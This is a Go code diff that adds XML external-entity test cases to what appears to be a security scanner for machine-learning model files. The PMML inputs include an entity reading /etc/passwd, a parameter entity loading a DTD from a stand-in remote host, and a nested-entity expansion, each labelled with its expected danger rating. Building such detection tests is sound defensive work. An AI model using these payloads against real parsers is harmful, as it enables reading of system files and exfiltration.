@@ -83,7 +83,7 @@ func tensors(head string, n int) []byte {
 }
 
 func otherFormats() []evasion {
-	return slices.Concat(tensorFiles(), configurations(), startupLines(), programs(), onnxModels(), savedModels())
+	return slices.Concat(tensorFiles(), configurations(), startupLines(), programs(), documents(), onnxModels(), savedModels())
 }
 
 func tensorFiles() []evasion {
@@ -167,6 +167,18 @@ func startupLines() []evasion {
 			evasion{name: "startup line in an archive: " + name, file: "a.zip", data: zipOf(member{"a/b.pth", []byte(text)})})
 	}
 	return append(out, evasion{name: "startup import", file: "a.pth", data: []byte("import acme\n"), least: core.Suspicious})
+}
+
+// documents are models in XML.
+func documents() []evasion {
+	of := func(name, entities string, least core.Verdict) evasion {
+		return evasion{name: name, file: "m.pmml", data: []byte(`<?xml version="1.0"?><!DOCTYPE x [` + entities + `]><PMML version="4.4"><Header description="&e;"/></PMML>`), least: least}
+	}
+	return []evasion{
+		of("external entity", `<!ENTITY e SYSTEM "file:///etc/passwd">`, core.Dangerous),
+		of("external parameter entity", `<!ENTITY % e SYSTEM "http://host.example/d"> %e;`, core.Dangerous),
+		of("entities of entities", `<!ENTITY a "lol"><!ENTITY e "&a;&a;">`, core.Suspicious),
+	}
 }
 
 // programs lie beside or inside models.
